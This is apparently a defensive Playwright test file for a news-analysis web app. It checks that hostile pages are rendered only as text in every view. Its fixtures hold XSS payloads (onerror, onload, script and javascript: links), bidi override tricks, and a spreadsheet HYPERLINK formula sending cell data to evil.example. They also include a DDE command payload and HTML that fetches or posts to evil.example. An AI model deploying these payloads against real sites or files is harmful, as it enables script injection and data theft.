"""Pages are never trusted: whatever one holds, the browser shows it as text and does nothing else."""

from __future__ import annotations

import json
from collections.abc import Iterator
from urllib.parse import quote
from urllib.request import urlopen

import pytest
from playwright.sync_api import Browser, expect

from tests.web.conftest import Served, Watched, build, serve
from tests.web.standing import stands

RLO, PDF, RLI = "\u202e", "\u202c", "\u2067"

TEXT = f"""<img src=x onerror=alert(1)> Army takes <script>alert(2)</script> al-Bukamal

By <svg onload=alert(3)> Reporter, 3 May 2017

The Syrian Arab Army captured <img src=x onerror="document.title='pwned'"> al-Bukamal on 2 May 2017, the army said.

ISIS attacked javascript:alert(4) the town of al-Qaim on 1 May 2017, said <a href="javascript:alert(5)">sources</a>.

The Iraqi Army withdrew from {RLO}latneM{PDF} al-Qaim on 30 April 2017, {RLI}officials said.

=HYPERLINK("http://evil.example/?"&A1,"click") captured al-Qaim on 29 April 2017, +cmd|' /C calc'!A0 said.

قال الجيش العراقي إن قواته سيطرت على مدينة القائم يوم الثلاثاء.
"""

MARKUP = """<!doctype html><html><head><title>Border news</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<style>body::before{content:"";position:fixed;inset:0;background:red;z-index:99999}</style>
<script>window.pwned = 1; fetch("http://evil.example/")</script></head>
<body onload="window.pwned = 2"><article><h1>Army takes al-Qaim</h1>
<p>The Iraqi Army captured al-Qaim on 3 November 2017, <b onmouseover="window.pwned=3">officials</b> said on Friday.</p>
<p style="position:fixed;inset:0;background:black">ISIS attacked the Iraqi Army near al-Qaim on 2 November 2017.</p>
<svg><script>window.pwned = 4</script><a href="javascript:window.pwned=5"><text>svg link</text></a></svg>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o"></object>
<form action="http://evil.example/post"><button>Send</button></form>
<p><a href="http://evil.example/go" target="_blank">The Syrian army withdrew from al-Bukamal on 1 November 2017.</a></p>
</article></body></html>
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A case of two pages that try everything."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "pages").mkdir()
    (folder / "pages" / "text.txt").write_text(TEXT, encoding="utf-8")
    (folder / "pages" / "markup.html").write_text(MARKUP, encoding="utf-8")
    yield from serve(build(folder / "hostile.case", str(folder / "pages")))


def addresses(served: Served) -> Iterator[str]:
    """Every view of every thing in the case."""
    for kind in ("documents", "claims", "events", "places", "actors", "sources"):
        yield f"/{kind}" if kind not in ("claims", "events") else "/"
        with urlopen(f"{served.url}/api/cases/{served.name}/{kind}?limit=20") as answer:
            for item in json.load(answer)["items"]:
                yield f"/{kind}/{quote(item.get('claim_id') or item['id'], safe='')}"
    yield from (
        "/contradictions",
        "/review",
        "/search?q=captured",
        "/search?q=" + quote("<img src=x onerror=alert(6)>"),
    )


def test_a_hostile_page_does_nothing_in_any_view(hostile: Served, browser: Browser) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    watched = Watched()
    page = context.new_page()
    watched.watch(page)
    seen = 0
    for path in addresses(hostile):
        page.goto(hostile.url + path)
        stands(page)
        page.evaluate("document.querySelectorAll('details').forEach(folded => { folded.open = true; })")
        page.mouse.move(640, 400)
        state = page.evaluate(
            """() => ({
                pwned: window.pwned, title: document.title, at: location.origin,
                elements: document.querySelectorAll(
                    '#main :is(script, iframe, object, img, style, form[action], [onerror], [onload], [onmouseover])'
                ).length,
                links: [...document.querySelectorAll('#main a[href]')].map(a => a.getAttribute('href'))
                    .filter(href => !href.startsWith('/') && !href.startsWith('#')),
                tricks: /[\\u202A-\\u202E\\u2066-\\u2069]/.test(document.querySelector('#main').textContent),
            })"""
        )
        assert state["pwned"] is None, path
        assert "pwned" not in state["title"]
        assert state["at"] == hostile.url
        assert (state["elements"], state["links"], state["tricks"]) == (0, [], False), (path, state)
        seen += 1
    context.close()
    assert seen > 15
    assert watched.dialogs == []
    assert watched.errors == []
    assert watched.foreign(hostile.url) == []


def test_markup_in_a_page_is_shown_as_the_words_it_is(hostile: Served, browser: Browser) -> None:
    page = browser.new_page()
    page.goto(f"{hostile.url}/documents")
    page.get_by_role("link", name="onload").first.click()
    expect(page.locator(".page-text")).to_contain_text("<script>alert(2)</script>")
    expect(page.locator(".page-text")).to_contain_text('=HYPERLINK("http://evil.example/?"&A1,"click")')
    page.close()


def test_right_to_left_words_run_right_to_left_and_move_nothing_around_them(hostile: Served, browser: Browser) -> None:
    page = browser.new_page()
    page.goto(f"{hostile.url}/documents")
    page.get_by_role("link", name="onload").first.click()
    arabic = page.locator(".page-text p", has_text="الجيش العراقي").first
    expect(arabic).to_be_attached()
    style = arabic.evaluate("p => [getComputedStyle(p).direction, getComputedStyle(p).unicodeBidi]")
    assert style == ["rtl", "isolate"]
    page.close()
